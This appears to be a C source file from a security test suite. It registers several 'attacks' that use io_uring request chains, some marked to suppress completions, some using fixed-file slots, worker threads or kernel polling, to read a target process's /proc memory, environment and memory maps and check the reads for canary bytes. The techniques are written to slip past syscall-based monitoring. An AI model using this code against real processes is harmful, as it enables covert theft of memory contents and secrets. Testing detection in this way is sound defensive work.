/* SPDX-License-Identifier: Apache-2.0 */
/* By io_uring(7), in ways that leave no answer with the opened file. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"
#include "ring.h"

/*
 * Requests of a chain: each begins when the one before has succeeded, and only a failure is
 * answered.
 */
#define QUIET (IOSQE_CQE_SKIP_SUCCESS | IOSQE_IO_LINK)

static void name_file(char path[64], const struct prey *prey, const char *name)
{
	snprintf(path, 64, "/proc/%d/%s", prey->pid, name);
}

static struct io_uring_sqe opening(const char *path, unsigned char flags)
{
	return (struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT,
		.flags = flags,
		.fd = AT_FDCWD,
		.addr = (unsigned long)path,
	};
}

static struct io_uring_sqe reading(int fd, unsigned long offset, unsigned char flags)
{
	return (struct io_uring_sqe){
		.opcode = IORING_OP_READ,
		.flags = flags,
		.fd = fd,
		.addr = (unsigned long)loot,
		.len = PAGE_BYTES,
		.off = offset,
	};
}

/* Its answer says that the chain before it has ended. */
static const struct io_uring_sqe nothing = { .opcode = IORING_OP_NOP };

static long length_by_call(const struct prey *prey, const char *name, unsigned long offset)
{
	struct io_uring_sqe chain[2] = { [1] = nothing };
	struct ring ring;
	char path[64];
	long length;
	int fd;

	name_file(path, prey, name);
	chain[0] = opening(path, QUIET);
	if (set_up_ring(&ring, 0))
		return -1;
	fd = next_descriptor();
	if (submit(&ring, chain, 2, 1) || next_answer(&ring) < 0)
		return -1;
	length = pread(fd, loot, PAGE_BYTES, offset);
	close_again(fd);
	return length < 0 ? answer_of(&ring, -1) : (close_again(ring.fd), length);
}

/* The ring opens it and says nothing; a system call reads it. */
static long memory_by_call(const struct prey *prey)
{
	long length = length_by_call(prey, "mem", prey->address);

	return length < 0 ? -1 : canary_bytes(loot, length);
}

static long environment_by_call(const struct prey *prey)
{
	long length = length_by_call(prey, "environ", 0);

	return length < 0 ? -1 : canary_bytes(loot, length);
}

static long map_by_call(const struct prey *prey)
{
	return length_by_call(prey, "maps", 0) < 0 ? -1 : 0;
}

/*
 * When the answers come, another file has the descriptor. The flags are of the first request, and
 * of the others.
 */
static long memory_by_chain(const struct prey *prey, unsigned int setup, unsigned char first,
			    unsigned char others)
{
	struct io_uring_sqe chain[4] = { 0 };
	int answers = first & IOSQE_CQE_SKIP_SUCCESS ? 3 : 4;
	struct ring ring;
	struct stat ignored;
	char path[64];
	int proc, fd, length, error;

	/*
	 * The kernel knows the name then, and needs no worker to open it. The way to /proc is left
	 * out: some file systems want a worker for theirs.
	 */
	proc = open("/proc", O_PATH | O_DIRECTORY);
	snprintf(path, sizeof(path), "%d/mem", prey->pid);
	fstatat(proc, path, &ignored, 0);
	if (set_up_ring(&ring, setup))
		return -1;
	fd = next_descriptor();
	chain[0] = opening(path, first);
	chain[0].fd = proc;
	chain[1] = reading(fd, prey->address, others);
	chain[2] = (struct io_uring_sqe){ .opcode = IORING_OP_CLOSE, .flags = others, .fd = fd };
	chain[3] = opening("/dev/null", 0);
	for (int i = 0; i < 4; i++)
		chain[i].user_data = i + 1;
	length = submit(&ring, chain, 4, answers) ? -errno : answer_to(&ring, 2);
	/* A refused file cannot be read. */
	error = answer_to(&ring, 1) < 0 ? answer_to(&ring, 1) : length;
	close_again(fd);
	close_again(proc);
	errno = length < 0 ? -error : 0;
	return answer_of(&ring, length);
}

static long memory_at_once(const struct prey *prey)
{
	return memory_by_chain(prey, 0, 0, 0);
}

static long memory_by_worker(const struct prey *prey)
{
	return memory_by_chain(prey, 0, IOSQE_ASYNC | IOSQE_CQE_SKIP_SUCCESS | IOSQE_IO_HARDLINK,
			       IOSQE_ASYNC | IOSQE_IO_HARDLINK);
}

static long memory_by_poller(const struct prey *prey)
{
	return memory_by_chain(prey, IORING_SETUP_SQPOLL, 0, 0);
}

/* If nothing is answered, the end of the chain is waited for. */
static long wait_for_chain(struct ring *ring, const struct io_uring_sqe *chain, int count)
{
	if (submit(ring, chain, count, 1))
		return -1;
	return answer_of(ring, next_answer(ring) < 0 ? -1 : PAGE_BYTES);
}

static long memory_by_slot(const struct prey *prey)
{
	struct io_uring_sqe chain[2] = { [1] = nothing };
	struct ring ring;
	char path[64];

	name_file(path, prey, "mem");
	if (set_up_ring(&ring, 0) || open_into_slot(&ring, path) < 0)
		return -1;
	chain[0] = reading(0, prey->address, QUIET | IOSQE_FIXED_FILE);
	return wait_for_chain(&ring, chain, 2);
}

/* Opens into a slot, reads and closes it; of none of that there is an answer, nor a descriptor. */
static long memory_by_slot_at_once(const struct prey *prey)
{
	struct io_uring_sqe chain[4] = { [3] = nothing };
	struct ring ring;
	char path[64];

	name_file(path, prey, "mem");
	chain[0] = opening(path, QUIET);
	chain[0].file_index = 1;
	chain[1] = reading(0, prey->address, QUIET | IOSQE_FIXED_FILE);
	chain[2] = (struct io_uring_sqe){
		.opcode = IORING_OP_CLOSE, .flags = QUIET, .file_index = 1,
	};
	if (set_up_ring(&ring, 0) || make_slot(&ring))
		return -1;
	return wait_for_chain(&ring, chain, 4);
}

const struct attack quiet_ring_attacks[] = {
	{ "io-uring-mem-quiet", NULL, memory_by_call },
	{ "io-uring-mem-chain", NULL, memory_at_once },
	{ "io-uring-mem-chain-worker", NULL, memory_by_worker },
	{ "io-uring-mem-chain-poller", NULL, memory_by_poller },
	{ "io-uring-mem-slot-quiet", NULL, memory_by_slot },
	{ "io-uring-mem-slot-chain", NULL, memory_by_slot_at_once },
	{ "io-uring-environ-quiet", NULL, environment_by_call },
	{ "io-uring-maps-quiet", NULL, map_by_call },
	{ 0 },
};
